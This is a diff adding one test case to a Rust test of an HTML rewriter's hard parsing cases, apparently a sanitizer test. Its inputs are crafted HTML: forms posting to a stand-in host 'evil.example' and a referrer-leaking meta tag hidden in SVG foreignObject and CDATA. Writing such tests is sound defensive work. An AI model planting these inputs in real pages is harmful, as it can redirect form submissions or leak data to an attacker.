@@ -549,6 +549,8 @@ fn hard_cases_match_the_oracle() {
             "<table><form id='x\u{20ac}' action=/save></form><div><form id='x&#128;' action=https://evil.example/><button>go</button></form></div></table>"),
         ("LEAK: a form with its own id in a table inside foreignObject, moved by the adoption agency",
             "<form action=https://evil.example/><div></form><svg><foreignObject><b><div><table><form id=x action=/save></form></table></b></foreignObject></svg><button>go</button>"),
+        ("LEAK: </a> in foreignObject with a form after the <a>: the form stays current, no CDATA after it",
+            "<svg><foreignObject><a title=\"x'y\" href='/q'><form></a><![CDATA[<p><meta name=referrer content=unsafe-url>"),
         ("the base copy keeps references the rewriter does not decode",
             "<table><td><base href='/caf&eacute;/'><a href=/abs>a</a><tr><base href=/y/>"),
         ("LEAK: a form tag too long to read after a table form whose id ties its input", &huge_form_after),
